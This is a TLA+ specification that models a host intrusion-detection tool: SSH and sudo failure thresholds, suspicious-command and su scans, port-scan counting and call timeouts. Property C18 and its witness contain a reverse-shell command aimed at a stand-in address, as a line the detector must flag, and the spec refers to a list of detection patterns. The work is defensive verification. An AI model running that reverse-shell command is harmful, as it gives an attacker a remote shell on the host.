    /\ journal \in Journals(LinesFor(logDet))
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>
    /\ now = FirstNow
    /\ last_check = FirstNow - 1
    /\ checkedAt = {}

\* AuthFailureDetector.detect looking only at what the journal holds since
\* last_check: the entries, all older than the first cycle, are seen once
AuthFailureDetector_detect_sinceLastCheck ==
    /\ logDet = "auth_failures"
    /\ \E sshOk \in BOOLEAN, sudoOk \in BOOLEAN :
          LET lines == IF last_check < FirstNow THEN journal ELSE <<>> IN
             /\ logEvents' =
                   _check_ssh_failures(EntriesOf(lines, "sshd"), threshold,
                                       sshOk)
                   \o _check_sudo_failures(EntriesOf(lines, "sudo"),
                                           threshold, sudoOk)
             /\ scans' = {q \in {"ssh"} : sshOk}
                             \cup {q \in {"sudo"} : sudoOk}
    /\ last_check' = now
    /\ checkedAt' = checkedAt \cup {now}
    /\ UNCHANGED <<logDet, threshold, journal, cmdEvents, now, engineVars,
                   alerterVars, detVars, callVars>>

\* AuthFailureDetector.detect: the SSH check, then the sudo check, then
\* self.last_check = datetime.now()
AuthFailureDetector_detect ==
    /\ logDet = "auth_failures"
    /\ \E sshOk \in BOOLEAN, sudoOk \in BOOLEAN :
          /\ logEvents' =
                _check_ssh_failures(EntriesOf(journal, "sshd"), threshold,
                                    sshOk)
                \o _check_sudo_failures(EntriesOf(journal, "sudo"),
                                        threshold, sudoOk)
          /\ scans' = {q \in {"ssh"} : sshOk} \cup {q \in {"sudo"} : sudoOk}
    /\ last_check' = now
    /\ checkedAt' = checkedAt \cup {now}
    /\ UNCHANGED <<logDet, threshold, journal, cmdEvents, now, engineVars,
                   alerterVars, detVars, callVars>>

NextLog ==
    \/ AuthFailureDetector_detect

SpecLog == InitLog /\ [][NextLog]_vars

(* ------------------ properties of AuthFailureDetector ------------------- *)
\* what an sshd entry says: the address and the user of a failed password
SshGroup(line) ==
    IF \E hh \in Hours, inv \in BOOLEAN, u \in Users, a \in Addresses :
          line = FailedPassword(hh, inv, u, a)
    THEN CHOOSE g \in Addresses \X Users :
            \E hh \in Hours, inv \in BOOLEAN :
                line = FailedPassword(hh, inv, g[2], g[1])
    ELSE <<"unknown", "unknown">>

\* what a sudo entry says: the user who mistyped the password
SudoGroup(line) ==
    IF \E hh \in Hours, u \in Users : line = IncorrectPassword(hh, u)
    THEN CHOOSE u \in Users : \E hh \in Hours : line = IncorrectPassword(hh, u)
    ELSE "unknown"

\* the failure lines of a group in the window
SshCount(g) ==
    LET w == SelectSeq(EntriesOf(journal, "sshd"), IsSshFailure) IN
       Cardinality({i \in DOMAIN w : SshGroup(w[i]) = g})

SudoCount(u) ==
    LET w == SelectSeq(EntriesOf(journal, "sudo"), IsSudoFailure) IN
       Cardinality({i \in DOMAIN w : SudoGroup(w[i]) = u})

\* the events of the latest detect() about a group
SshEvents(g) ==
    {i \in DOMAIN logEvents :
        /\ logEvents[i].service = "ssh"
        /\ <<logEvents[i].source_ip, logEvents[i].username>> = g}

SudoEvents(u) ==
    {i \in DOMAIN logEvents :
        logEvents[i].service = "sudo" /\ logEvents[i].username = u}

\* the SSH half of C13
SshThreshold ==
    (logDet = "auth_failures" /\ "ssh" \in scans) =>
        \A g \in (Addresses \cup {"unknown"}) \X (Users \cup {"unknown"}) :
            Cardinality(SshEvents(g)) =
                IF SshCount(g) >= threshold THEN 1 ELSE 0

\* the sudo half of C13
SudoThreshold ==
    (logDet = "auth_failures" /\ "sudo" \in scans) =>
        \A u \in Users \cup {"unknown"} :
            Cardinality(SudoEvents(u)) =
                IF SudoCount(u) >= threshold THEN 1 ELSE 0

\* C13: after a detect() of AuthFailureDetector with threshold T that got the
\* window of the journal, every SSH (address, user) pair and every sudo user
\* has exactly one auth_failure event when the window holds at least T
\* failure lines of the group and none when it holds fewer; lines without
\* an address or a user count under "unknown".
C13_ThresholdPerGroup == SshThreshold /\ SudoThreshold

(* ------------------------------ repeated scans ------------------------- *)
\* the entries of the window that stays the same from cycle to cycle
MemoLines ==
    {FailedPassword("07", FALSE, "alice", "10.0.0.1"),
     IncorrectPassword("07", "alice")}

\* an AuthFailureDetector, a threshold and a window whose entries are all
\* older than the first cycle and stay inside the rolling window
InitMemo ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ CallIdle
    /\ logDet = "auth_failures"
    /\ threshold \in 1 .. MaxThreshold
    /\ journal \in Journals(MemoLines)
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>
    /\ now = FirstNow
    /\ last_check = FirstNow - 1
    /\ checkedAt = {}

\* time.sleep(check_interval) between two cycles
Tick ==
    /\ logDet = "auth_failures"
    /\ now < MaxClock
    /\ now' = now + 1
    /\ UNCHANGED <<logDet, threshold, journal, scans, logEvents, cmdEvents,
                   last_check, checkedAt, engineVars, alerterVars, detVars,
                   callVars>>

NextMemo ==
    \/ AuthFailureDetector_detect
    \/ Tick

SpecMemo == InitMemo /\ [][NextMemo]_vars

(* ---------------- properties of the repeated scans ---------------------- *)
\* C29: the events of a detect() call are those the window and the threshold
\* give, whatever last_check holds, and last_check only takes the time of the
\* call; a call that follows an earlier one over the same window with the
\* same queries answered returns the same events again, the groups that meet
\* the threshold included.
C29_NoMemory ==
    /\ [][AuthFailureDetector_detect =>
            /\ logEvents' =
                  _check_ssh_failures(EntriesOf(journal, "sshd"), threshold,
                                      "ssh" \in scans')
                  \o _check_sudo_failures(EntriesOf(journal, "sudo"),
                                          threshold, "sudo" \in scans')
            /\ last_check' = now]_vars
    /\ [][(AuthFailureDetector_detect /\ checkedAt # {} /\ scans' = scans) =>
            logEvents' = logEvents]_vars

\* C29 witness: detect() was called in the first and in the second cycle,
\* last_check is the time of the second, and the events of the second call
\* hold the sshd group of alice, which met the threshold both times
C29_Witness ==
    /\ logDet = "auth_failures" /\ threshold = 2
    /\ checkedAt = {FirstNow, FirstNow + 1}
    /\ last_check = FirstNow + 1
    /\ scans = {"ssh", "sudo"}
    /\ journal = <<FailedPassword("07", FALSE, "alice", "10.0.0.1"),
                   FailedPassword("07", FALSE, "alice", "10.0.0.1")>>
    /\ Len(logEvents) = 1
    /\ logEvents[1].username = "alice"
    /\ logEvents[1].failure_count = 2

(* ------------------------------ command scans --------------------------- *)
\* the windows of the journal when commands are looked for
CommandJournals == UNION {[1 .. n -> CommandLines] : n \in 0 .. MaxCmdLines}

\* what the call of ausearch gives: use, use_auditd is set; ok, ausearch was
\* found and returned 0; out, the lines it printed, at most one
AuditRuns ==
    {[use |-> FALSE, ok |-> FALSE, out |-> <<>>],
     [use |-> TRUE, ok |-> FALSE, out |-> <<>>],
     [use |-> TRUE, ok |-> TRUE, out |-> <<>>]}
        \cup {[use |-> TRUE, ok |-> TRUE, out |-> <<l>>] : l \in AuditLines}

\* a SuspiciousCommandDetector and a window of the journal
InitCmd ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ CallIdle
    /\ logDet = "suspicious_commands"
    /\ threshold = 0
    /\ journal \in CommandJournals
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>
    /\ ClockIdle

\* SuspiciousCommandDetector.detect: the shell history, the audit log when
\* use_auditd is set, then the journal
SuspiciousCommandDetector_detect ==
    /\ logDet = "suspicious_commands"
    /\ \E audit \in AuditRuns, journalOk \in BOOLEAN :
          /\ cmdEvents' =
                _check_bash_history
                \o (IF audit.use THEN _check_auditd_logs(audit.out, audit.ok)
                                 ELSE <<>>)
                \o _check_journalctl(journal, journalOk)
          /\ scans' = {q \in {"ausearch"} : audit.use /\ audit.ok}
                          \cup {q \in {"journalctl"} : journalOk}
    /\ UNCHANGED <<logDet, threshold, journal, logEvents, clockVars,
                   engineVars, alerterVars, detVars, callVars>>

NextCmd ==
    \/ SuspiciousCommandDetector_detect

SpecCmd == InitCmd /\ [][NextCmd]_vars

(* --------------- properties of SuspiciousCommandDetector ---------------- *)
\* C18: when the journal was scanned, every line of it that contains
\* "bash -i >& /dev/tcp/10.0.0.1/4444" has an event about that line whose
\* threat_type is "reverse_shell" and whose severity is "critical".
C18_ReverseShellReported ==
    (logDet = "suspicious_commands" /\ "journalctl" \in scans) =>
       \A i \in DOMAIN journal :
          Contains(journal[i], ReverseShellText) =>
             \E k \in DOMAIN cmdEvents :
                /\ cmdEvents[k].log_entry = journal[i]
                /\ cmdEvents[k].event_type = "suspicious_command"
                /\ cmdEvents[k].threat_type = "reverse_shell"
                /\ cmdEvents[k].severity = "critical"

\* C18 witness: the journal was scanned; its second line holds the example
\* after COMMAND= and nothing else a pattern matches, and there is exactly one
\* event about it
C18_Witness ==
    /\ logDet = "suspicious_commands" /\ scans = {"journalctl"}
    /\ Len(journal) = 2
    /\ journal[1] = Prefix("07", "sudo") \o <<"COMMAND", "=", "ls">>
    /\ journal[2] = ReverseShellLine("sudo", <<"COMMAND", "=">>, <<>>)
    /\ Len(cmdEvents) = 1
    /\ cmdEvents[1].threat_type = "reverse_shell"
    /\ cmdEvents[1].severity = "critical"

\* the events of cmdEvents that the journal scan made about a line and a pattern
JournalEventsOf(evs, line, pat) ==
    {k \in DOMAIN evs : /\ evs[k].log_entry = Truncate(line)
                        /\ evs[k].pattern_matched = pat}

\* the events of cmdEvents that the audit scan made about a line and a pattern
AuditEventsOf(evs, line, pat) ==
    {k \in DOMAIN evs : /\ evs[k].log_entry = <<>>
                        /\ evs[k].command = CommandOf(line)
                        /\ evs[k].pattern_matched = pat}

\* the patterns of SUSPICIOUS_PATTERNS that match a line
Matching(line) ==
    {pi \in DOMAIN SUSPICIOUS_PATTERNS :
        re_search(SUSPICIOUS_PATTERNS[pi].re, line)}

\* the events are those of the lines and no others: for every line and every
\* pattern, as many events as the line stands in lines when the pattern
\* matches it and none when it does not, each with the threat type and the
\* severity of that pattern
OnePerMatch(evs, lines, auditd) ==
    /\ \A i \in DOMAIN lines :
          \A pi \in DOMAIN SUSPICIOUS_PATTERNS :
             LET p == SUSPICIOUS_PATTERNS[pi]
                 about == IF auditd THEN AuditEventsOf(evs, lines[i], p.re)
                          ELSE JournalEventsOf(evs, lines[i], p.re)
             IN /\ Cardinality(about) =
                      (IF re_search(p.re, lines[i])
                       THEN CountOf(lines, lines[i]) ELSE 0)
                /\ \A k \in about : /\ evs[k].threat_type = p.threat_type
                                     /\ evs[k].severity = p.severity
    /\ \A k \in DOMAIN evs :
          (evs[k].log_entry = <<>>) = auditd =>
             /\ \E pi \in DOMAIN SUSPICIOUS_PATTERNS :
                   evs[k].pattern_matched = SUSPICIOUS_PATTERNS[pi].re
             /\ \E i \in DOMAIN lines :
                   IF auditd THEN evs[k].command = CommandOf(lines[i])
                   ELSE evs[k].log_entry = Truncate(lines[i])

\* C25: nothing is deduplicated. When the journal was scanned, a line that
\* stands n times in it and matches k patterns has n events for each of the k
\* patterns and none for any other pattern, n * k events in all, and every
\* event carries the threat type and the severity of its own pattern. The
\* scan of the audit log does the same with the lines ausearch printed, and
\* a scan that failed gives no event.
C25_OneEventPerMatch ==
    /\ []((logDet = "suspicious_commands" /\ scans # {}) =>
            OnePerMatch(cmdEvents,
                        IF "journalctl" \in scans THEN journal ELSE <<>>,
                        FALSE))
    /\ [][SuspiciousCommandDetector_detect =>
            \E audit \in AuditRuns :
               /\ ("ausearch" \in scans') = (audit.use /\ audit.ok)
               /\ OnePerMatch(cmdEvents',
                              IF audit.use /\ audit.ok THEN audit.out
                              ELSE <<>>,
                              TRUE)]_vars

\* C25 witness: the journal holds twice the same line, which matches the
\* reverse shell pattern and the pattern of a shell at the end of a chain of
\* commands; the scan of the journal made four events, two for each pattern
C25_Witness ==
    /\ logDet = "suspicious_commands" /\ scans = {"journalctl"}
    /\ Len(journal) = 2 /\ journal[1] = journal[2]
    /\ journal[1] = ReverseShellLine("sudo", <<>>, <<SP, ";", SP, "bash">>)
    /\ Cardinality(Matching(journal[1])) = 2
    /\ Len(cmdEvents) = 4
    /\ cmdEvents[1] = cmdEvents[3] /\ cmdEvents[2] = cmdEvents[4]
    /\ cmdEvents[1].pattern_matched # cmdEvents[2].pattern_matched

(* --------------------------- switch-user scans -------------------------- *)
\* su: "pam_unix(su:session): session opened for user root by U(uid=1000)";
\* pam_unix leaves the name out, "by (uid=1000)", when the caller has no
\* login name
SuOpened(user) ==
    Prefix("07", "su")
        \o <<"pam_unix", "(", "su", ":", "session", ")", ":", SP, "session",
             SP, "opened", SP, "for", SP, "user", SP, "root", SP, "by", SP>>
        \o (IF user = "" THEN <<>> ELSE <<user>>)
        \o <<"(", "uid", "=", "1000", ")">>

\* su: "pam_unix(su:auth): authentication failure; logname=U uid=1000 euid=0
\* tty=pts/0 ruser=U rhost=  user=root"
SuFailure(user) ==
    Prefix("07", "su")
        \o <<"pam_unix", "(", "su", ":", "auth", ")", ":", SP,
             "authentication", SP, "failure", ";", SP, "logname", "=", user,
             SP, "uid", "=", "1000", SP, "euid", "=", "0", SP, "tty", "=",
             "pts/0", SP, "ruser", "=", user, SP, "rhost", "=", SP, SP,
             "user", "=", "root">>

\* su: "pam_unix(su:session): session closed for user root"
SuClosed ==
    Prefix("07", "su")
        \o <<"pam_unix", "(", "su", ":", "session", ")", ":", SP, "session",
             SP, "closed", SP, "for", SP, "user", SP, "root">>

\* sudo: "pam_unix(sudo:session): session opened for user root by U(uid=1000)"
SudoOpened(user) ==
    Prefix("07", "sudo")
        \o <<"pam_unix", "(", "sudo", ":", "session", ")", ":", SP, "session",
             SP, "opened", SP, "for", SP, "user", SP, "root", SP, "by", SP,
             user, "(", "uid", "=", "1000", ")">>

\* the entries the journal can hold when switches of user are looked for
SuLines ==
    {SuOpened(u) : u \in Users \cup {""}}
        \cup {SuFailure("alice"), SuClosed, SudoOpened("alice")}

\* the tokens \w+ does not match
NotWord == {SP, "(", ")", "[", "]", ":", ";", "=", "pts/0"}

\* re.search(key + r'\s+(\w+)', line).group(1): the word after the leftmost
\* key that is followed by white space and a word; <<>> when there is no match
WordAfter(line, key) ==
    LET at == {j \in 3 .. Len(line) :
                  /\ line[j] \notin NotWord
                  /\ \E i \in 1 .. (j - 2) :
                        /\ line[i] = key
                        /\ \A m \in (i + 1) .. (j - 1) : line[m] = SP}
    IN IF at = {} THEN <<>> ELSE <<line[Least(at)]>>

\* the event _check_su_usage appends
SuEvent(user, target) ==
    [event_type |-> "privilege_escalation", severity |-> "medium",
     username |-> user, target_user |-> target, method |-> "su"]

\* the body of the loop of _check_su_usage for one line
SuEventsOf(line) ==
    LET by_match == WordAfter(line, "by")
        for_match == WordAfter(line, "for")
    IN IF /\ Contains(line, <<"su", ":">>)
          /\ \/ Contains(line, <<"session", SP, "opened">>)
             \/ Contains(line, <<"authentication", SP, "failure">>)
          /\ by_match # <<>>
          /\ Contains(line, <<"session", SP, "opened">>)
       THEN <<SuEvent(by_match[1],
                      IF for_match # <<>> THEN for_match[1] ELSE "root")>>
       ELSE <<>>

\* PrivilegeEscalationDetector._check_su_usage on the output of journalctl; a
\* non-zero return code or an exception gives no event
RECURSIVE _check_su_usage(_, _)
_check_su_usage(lines, ok) ==
    IF ~ok \/ lines = <<>> THEN <<>>
    ELSE SuEventsOf(Head(lines)) \o _check_su_usage(Tail(lines), ok)

\* a PrivilegeEscalationDetector and a window of the journal
InitSu ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ CallIdle
    /\ logDet = "privilege_escalation"
    /\ threshold = 0
    /\ journal \in Journals(SuLines)
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>
    /\ ClockIdle

\* the call of _check_su_usage in PrivilegeEscalationDetector.detect
PrivilegeEscalationDetector_su ==
    /\ logDet = "privilege_escalation"
    /\ \E ok \in BOOLEAN :
          /\ logEvents' = _check_su_usage(journal, ok)
          /\ scans' = {q \in {"su"} : ok}
    /\ UNCHANGED <<logDet, threshold, journal, cmdEvents, clockVars,
                   engineVars, alerterVars, detVars, callVars>>

NextSu ==
    \/ PrivilegeEscalationDetector_su

SpecSu == InitSu /\ [][NextSu]_vars

(* ----------------------- properties of the su scan ---------------------- *)
\* what an entry says: a switch of user that succeeded or one that failed
SwitchLine(line) ==
    \/ \E u \in Users \cup {""} : line = SuOpened(u)
    \/ \E u \in Users : line = SuFailure(u)

\* C26: when the journal was scanned there is one event for each entry of
\* the window that reports a switch of user by su, a session that was opened
\* as well as an authentication failure, and every event is a
\* privilege_escalation event of severity "medium".
C26_EverySwitchReported ==
    (logDet = "privilege_escalation" /\ "su" \in scans) =>
       /\ Len(logEvents) =
             Cardinality({i \in DOMAIN journal : SwitchLine(journal[i])})
       /\ \A k \in DOMAIN logEvents :
             /\ logEvents[k].event_type = "privilege_escalation"
             /\ logEvents[k].severity = "medium"

\* the part of C26 about the sessions opened by a named user: one event each
C26_OpenedReported ==
    (logDet = "privilege_escalation" /\ "su" \in scans) =>
       /\ Len(logEvents) =
             Cardinality({i \in DOMAIN journal :
                             \E u \in Users : journal[i] = SuOpened(u)})
       /\ \A k \in DOMAIN logEvents :
             /\ logEvents[k].event_type = "privilege_escalation"
             /\ logEvents[k].severity = "medium"

(* ---------------------------- kernel log scans -------------------------- *)
\* the head of an entry of the kernel log: "Nov 06 07:59:02 host kernel: "
KernelPrefix == Timestamp("07") \o <<SP, "host", SP, "kernel", ":", SP>>

\* an entry about a packet from addr: "IN=eth0 SRC=A DST=10.0.0.9 PROTO=TCP F"
\* with F one of SYN, NEW and ACK
PacketLine(addr, flag) ==
    KernelPrefix
        \o <<"IN", "=", "eth0", SP, "SRC", "=", addr, SP, "DST", "=",
             "10.0.0.9", SP, "PROTO", "=", "TCP", SP, flag>>

\* the entries the kernel log can hold
KernelLines == {PacketLine(a, f) : a \in Addresses, f \in {"SYN", "NEW", "ACK"}}

\* how often an entry can stand in the window
AttemptCounts(flag) ==
    IF flag = "SYN" THEN {0, 1} \cup ((ScanThreshold - 1) .. MaxAttempts)
    ELSE IF flag = "NEW" THEN {0, 1}
    ELSE {0, MaxAttempts}

\* the windows of the kernel log: for every entry, how often it stands there
KernelLogs ==
    {[l \in KernelLines |->
         IF Contains(l, <<"SYN">>) THEN c.syn[l[Len(KernelPrefix) + 7]]
         ELSE IF Contains(l, <<"NEW">>) THEN c.new[l[Len(KernelPrefix) + 7]]
         ELSE c.ack[l[Len(KernelPrefix) + 7]]] :
        c \in [syn : [Addresses -> AttemptCounts("SYN")],
               new : [Addresses -> AttemptCounts("NEW")],
               ack : [Addresses -> AttemptCounts("ACK")]]}

\* re.search(r'SRC=(\d+\.\d+\.\d+\.\d+)', line).group(1), "" without a match
SrcOf(line) ==
    LET at == {i \in 1 .. (Len(line) - 2) :
                  /\ line[i] = "SRC" /\ line[i + 1] = "="
                  /\ line[i + 2] \in Addresses}
    IN IF at = {} THEN "" ELSE line[Least(at) + 2]

\* adds up the numbers in f over the set S
RECURSIVE SumOver(_, _)
SumOver(f, S) ==
    IF S = {} THEN 0
    ELSE LET x == CHOOSE y \in S : TRUE IN f[x] + SumOver(f, S \ {x})

\* connection_attempts after the loop over the lines: per source the number
\* of lines that hold "SYN" or "NEW" and name it after SRC=
connection_attempts(log) ==
    [src_ip \in {SrcOf(l) : l \in DOMAIN log} \ {""} |->
        SumOver(log, {l \in DOMAIN log :
                         /\ Contains(l, <<"SYN">>) \/ Contains(l, <<"NEW">>)
                         /\ SrcOf(l) = src_ip})]

\* the event _check_port_scans appends
ScanEvent(src_ip, count) ==
    [event_type |-> "network_anomaly", severity |-> "high",
     source_ip |-> src_ip, connection_attempts |-> count,
     anomaly_type |-> "port_scan"]

\* if count >= 50
ScanExceeds_atLeast(count) == count >= ScanThreshold

\* if count > 50
ScanExceeds(count) == count > ScanThreshold

\* the loop over connection_attempts.items(), the sources in the given order;
\* a source none of whose lines was counted has no key in the dictionary
RECURSIVE ScanEvents(_, _)
ScanEvents(attempts, order) ==
    IF order = <<>> THEN <<>>
    ELSE (IF /\ Head(order) \in DOMAIN attempts
             /\ attempts[Head(order)] > 0
             /\ ScanExceeds(attempts[Head(order)])
          THEN <<ScanEvent(Head(order), attempts[Head(order)])>>
          ELSE <<>>)
            \o ScanEvents(attempts, Tail(order))

\* NetworkAnomalyDetector._check_port_scans; a journalctl that cannot be run
\* gives no event
_check_port_scans(log, ok, order) ==
    IF ok THEN ScanEvents(connection_attempts(log), order) ELSE <<>>

\* the orders in which the sources can come first in the window
SourceOrders ==
    {order \in [1 .. Cardinality(Addresses) -> Addresses] :
        \A i, j \in DOMAIN order : order[i] = order[j] => i = j}

\* a NetworkAnomalyDetector and a window of the kernel log
InitScan ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ CallIdle
    /\ logDet = "network_anomalies"
    /\ threshold = 0
    /\ journal \in KernelLogs
    /\ scans = {}
    /\ logEvents = <<>>
    /\ cmdEvents = <<>>
    /\ ClockIdle

\* the call of _check_port_scans in NetworkAnomalyDetector.detect
NetworkAnomalyDetector_port_scans ==
    /\ logDet = "network_anomalies"
    /\ \E ok \in BOOLEAN, order \in SourceOrders :
          /\ logEvents' = _check_port_scans(journal, ok, order)
          /\ scans' = {q \in {"kernel"} : ok}
    /\ UNCHANGED <<logDet, threshold, journal, cmdEvents, clockVars,
                   engineVars, alerterVars, detVars, callVars>>

NextScan ==
    \/ NetworkAnomalyDetector_port_scans

SpecScan == InitScan /\ [][NextScan]_vars

(* --------------------- properties of the port scan check ---------------- *)
\* the connection attempts of a source in the window: its SYN and NEW entries
Attempts(addr) ==
    journal[PacketLine(addr, "SYN")] + journal[PacketLine(addr, "NEW")]

\* C28: when the kernel log was scanned, a source with more than 50 counted
\* attempts has exactly one event, a high network_anomaly of type port_scan
\* that carries its count; a source with 50 attempts or fewer has none.
C28_ScanAboveFifty ==
    (logDet = "network_anomalies" /\ "kernel" \in scans) =>
       /\ \A a \in Addresses :
             LET about == {k \in DOMAIN logEvents :
                              logEvents[k].source_ip = a}
             IN /\ Cardinality(about) = (IF Attempts(a) > 50 THEN 1 ELSE 0)
                /\ \A k \in about :
                      /\ logEvents[k].event_type = "network_anomaly"
                      /\ logEvents[k].severity = "high"
                      /\ logEvents[k].anomaly_type = "port_scan"
                      /\ logEvents[k].connection_attempts = Attempts(a)
       /\ \A k \in DOMAIN logEvents : logEvents[k].source_ip \in Addresses

\* C28 witness: one source with exactly 50 attempts and many other packets,
\* another with 51 attempts, 50 SYN and one NEW; the only event is about the
\* second
C28_Witness ==
    /\ logDet = "network_anomalies" /\ "kernel" \in scans
    /\ journal[PacketLine("10.0.0.1", "SYN")] = 50
    /\ journal[PacketLine("10.0.0.1", "NEW")] = 0
    /\ journal[PacketLine("10.0.0.1", "ACK")] > 50
    /\ journal[PacketLine("10.0.0.2", "SYN")] = 50
    /\ journal[PacketLine("10.0.0.2", "NEW")] = 1
    /\ Len(logEvents) = 1
    /\ logEvents[1].source_ip = "10.0.0.2"
    /\ logEvents[1].connection_attempts = 51

(* --------------------------- external invocations ----------------------- *)
\* one subprocess.run or requests call: who makes it, what it runs and the
\* timeout it is given in seconds, 0 when the call passes none
Call(by, what, timeout) == [by |-> by, what |-> what, timeout |-> timeout]

\* the calls of one cycle with the default configuration, in the order run()
\* reaches them: the five detectors, then a delivery of an alert
Invocations ==
    <<Call("auth_failures", "journalctl -u ssh", 0),
      Call("auth_failures", "journalctl -t sudo", 0),
      Call("privilege_escalation", "journalctl -t sudo", 0),
      Call("privilege_escalation", "find -perm -4000", 30),
      Call("privilege_escalation", "find -perm -2000", 30),
      Call("privilege_escalation", "journalctl", 0),
      Call("suspicious_commands", "ausearch -m execve", 0),
      Call("suspicious_commands", "journalctl", 0),
      Call("file_changes", "ausearch -k", 0),
      Call("network_anomalies", "ss -tlnp", 0),
      Call("network_anomalies", "ss -tnp state established", 0),
      Call("network_anomalies", "journalctl -k", 0),
      Call("alerter", "requests.post", 10)>>

\* the engine is about to start a cycle
InitCalls ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ LogIdle
    /\ CallIdle

\* the next call of the cycle is made; the command or the endpoint answers
\* in time, or hangs
Invoke ==
    /\ callState = "none"
    /\ callIdx < Len(Invocations)
    /\ callIdx' = callIdx + 1
    /\ callState' \in {"running", "hung"}
    /\ UNCHANGED <<callFailed, cycles, engineVars, alerterVars, detVars,
                   logVars>>

\* the call returns
Return ==
    /\ callState = "running"
    /\ callState' = "none"
    /\ UNCHANGED <<callIdx, callFailed, cycles, engineVars, alerterVars,
                   detVars, logVars>>

\* subprocess.TimeoutExpired or requests.Timeout: the timeout of a call that
\* was given one runs out; the exception is caught where the call was made
TimeoutExpired ==
    /\ callState = "hung"
    /\ Invocations[callIdx].timeout > 0
    /\ callState' = "none"
    /\ callFailed' = callFailed \cup {callIdx}
    /\ UNCHANGED <<callIdx, cycles, engineVars, alerterVars, detVars, logVars>>

\* the cycle is over: the engine sleeps and starts the next one
CycleEnd ==
    /\ callState = "none"
    /\ callIdx = Len(Invocations)
    /\ callIdx' = 0
    /\ callFailed' = {}
    /\ cycles' = IF cycles < MaxCycles THEN cycles + 1 ELSE cycles
    /\ UNCHANGED <<callState, engineVars, alerterVars, detVars, logVars>>

NextCalls == Invoke \/ Return \/ TimeoutExpired \/ CycleEnd

\* the engine goes on, a command that is not hung ends, a timeout runs out
SpecCalls ==
    /\ InitCalls
    /\ [][NextCalls]_vars
    /\ WF_vars(Invoke) /\ WF_vars(Return)
    /\ WF_vars(TimeoutExpired) /\ WF_vars(CycleEnd)

(* ------------------ properties of the external invocations -------------- *)
\* C16: every call a cycle makes is given a timeout, and every cycle that
\* started comes to its end.
C16_BoundedCalls ==
    /\ [](callState # "none" => Invocations[callIdx].timeout > 0)
    /\ (callIdx > 0) ~> (callIdx = 0)

====
